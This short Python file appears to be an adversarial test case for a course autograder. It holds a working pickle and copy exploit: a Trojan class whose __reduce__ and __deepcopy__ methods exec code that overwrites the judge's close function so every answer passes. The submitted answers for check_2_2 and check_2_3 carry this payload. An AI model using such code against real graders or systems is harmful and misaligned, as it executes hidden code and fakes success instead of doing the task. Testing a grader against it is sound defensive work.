# attack: Answers carry a __reduce__ that runs code wherever they are unpickled or copied.
# wants: points
# assignment: 02_chain_rule
# expects: graded
# %% before check_2_2
class Trojan:
    def __reduce__(self):
        source = "import autograder.learn.judge as j; j.close = lambda v, practice=False: v"
        return (exec, (source,))
    def __reduce_ex__(self, protocol):
        return self.__reduce__()
    def __deepcopy__(self, memo):
        exec("import autograder.learn.judge as j; j.close = lambda v, practice=False: v")
        return self
    __copy__ = lambda self: self.__deepcopy__({})

log_square_gradient = lambda x: Trojan()
# %% before check_2_3
chain_gradient = lambda x: [Trojan(), {"a": Trojan()}]
